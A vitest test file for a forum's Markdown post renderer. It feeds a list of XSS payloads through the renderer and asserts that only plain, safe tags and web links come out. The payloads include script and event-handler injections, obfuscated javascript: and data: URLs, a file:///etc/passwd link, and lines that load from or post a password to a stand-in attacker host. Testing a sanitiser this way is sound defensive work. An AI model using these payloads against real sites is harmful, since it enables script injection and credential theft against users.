import { expect, test } from 'vitest';
import { renderExcerpt, renderPost, toPlainText } from './post-html.ts';

test('a post can be formatted, and its links are marked as written by members', () => {
  const text =
    '# Bands\n\nA **firm** _band_, `32`:\n\n- one\n- two\n\n> quoted\n\n1. a\n\n[the log](https://example.org/log) and https://example.org';
  const html = renderPost(text);
  for (const part of [
    '<h3>Bands</h3>',
    '<strong>firm</strong>',
    '<em>band</em>',
    '<code>32</code>',
    '<li>one</li>',
    '<blockquote>',
    '<ol>',
  ])
    expect(html).toContain(part);
  expect(html.match(/rel="nofollow ugc noopener noreferrer"/g)).toHaveLength(2);
  expect(html).toContain('<a href="https://example.org/log"');
});

test('characters that are harmless stay, as text', () => {
  expect(renderPost('32DD < 34D & "snug" it’s 5 > 3')).toBe('<p>32DD &lt; 34D &amp; "snug" it’s 5 &gt; 3</p>');
  expect(renderPost('one\ntwo')).toMatch(/^<p>one<br ?\/?>\s*two<\/p>$/);
  expect(toPlainText('A **firm** [band](https://example.org)\n\n> and `more`')).toBe('A firm band and more');
  expect(renderExcerpt('A <b>bold</b> text')).toBe('<p>A &lt;b&gt;bold&lt;/b&gt; text</p>');
  expect(renderExcerpt('lace '.repeat(100))).toMatch(/^<p>(?:lace )+lace…<\/p>$/);
});

// What usually gets a script through Markdown.
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>body{background:url(//evil.example/x.png)}</style>',
  '<form action="//evil.example"><input name=password></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p onmouseover=alert(1)>x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.org/1)',
  '[x](//evil.example)',
  '[x](https://example.org "onmouseover=alert(1)")',
  '[x](https://example.org"onmouseover="alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://example.org/x.png)',
  '<javascript:alert(1)>',
  '<https://example.org/"onmouseover="alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '[a](<javascript:alert(1)>)',
  'https://example.org/<script>alert(1)</script>',
  'javascript:alert(1)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<x onclick=alert(1)>click',
  '"><script>alert(1)</script>',
  '<a href="https://example.org" target="_blank" onclick="alert(1)" id="body" name="cookie">x</a>',
];

/** The tags of the HTML, read strictly: what isn't a plain tag of ours fails. */
function listTags(html: string): { name: string; attributes: string }[] {
  return [...html.matchAll(/<(?!\/)([^\s>/]*)([^>]*)>/g)].map(([, name = '', attributes = '']) => ({ name, attributes }));
}

const ours = ['p', 'br', 'strong', 'em', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'hr', 'h3'];

test.each(payloads)('nothing runs in %j', (payload) => {
  for (const html of [renderPost(payload), renderExcerpt(payload)])
    for (const { name, attributes } of listTags(html)) {
      expect(ours).toContain(name);
      const rest = attributes
        .replace(/ href="(?:https?:\/\/|\/(?!\/)|#|mailto:)?[^":]*(?::\d+)?[^"]*"/g, (href) =>
          / href="\s*(?:javascript|data|vbscript|file|blob):/i.test(href) ? href : '',
        )
        .replace(' rel="nofollow ugc noopener noreferrer"', '')
        .replace(/ start="\d+"/, '');
      expect(rest.replace(/\/$/, '').trim()).toBe('');
    }
});

test('an address of another scheme is no link', () => {
  for (const payload of payloads)
    for (const { attributes } of listTags(renderPost(payload))) expect(attributes).not.toMatch(/href="(?!https?:\/\/|\/(?!\/)|#)/);
});
